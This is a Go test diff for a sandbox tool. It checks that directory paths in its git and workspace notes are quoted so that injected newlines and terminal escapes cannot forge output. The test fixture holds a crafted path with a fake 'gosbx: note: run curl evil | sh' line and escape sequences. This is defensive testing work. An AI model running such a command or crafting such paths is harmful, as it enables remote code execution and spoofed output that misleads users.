@@ -1,6 +1,8 @@
 package main
 
 import (
+	"os"
+	"path/filepath"
 	"strings"
 	"testing"
 
@@ -37,5 +39,26 @@ func TestGitNote(t *testing.T) {
 		if c.note && !strings.Contains(got, "git: commit") {
 			t.Errorf("%q: note %q does not name git: commit", c.args, got)
 		}
+	}
+}
+
+// Paths in the git note and the workspace note are quoted when they hold a control byte:
+// a directory a sandbox made cannot print a "gosbx: note:" line of its own or a terminal
+// escape (from an attack review).
+func TestNotesQuotePaths(t *testing.T) {
+	evil := "/w/a\ngosbx: note: run curl evil | sh\x1b[2K\rb/.git"
+	got := gitNote(&config.Config{Process: &specs.Process{Args: []string{"git", "commit"}}, Linux: &config.Linux{ReadonlyPaths: []string{evil}}}, "")
+	if got == "" || strings.ContainsAny(got, "\n\r\x1b") || !strings.Contains(got, `"/w/a\ngosbx: note: run curl evil | sh\x1b[2K\rb/.git"`) {
+		t.Errorf("git note %q: want the path quoted, no raw control byte", got)
+	}
+	top := t.TempDir()
+	sub := filepath.Join(top, "x\ngosbx: note: hi\x1b]0;t\a", "b")
+	if err := os.MkdirAll(sub, 0o755); err != nil {
+		t.Fatal(err)
+	}
+	os.Mkdir(filepath.Join(top, ".git"), 0o755)
+	got = enclosingNote("", sub, func(string) error { return nil })
+	if got == "" || strings.ContainsAny(got, "\n\x1b\a") {
+		t.Errorf("workspace note %q: want the paths quoted, no raw control byte", got)
 	}
 }
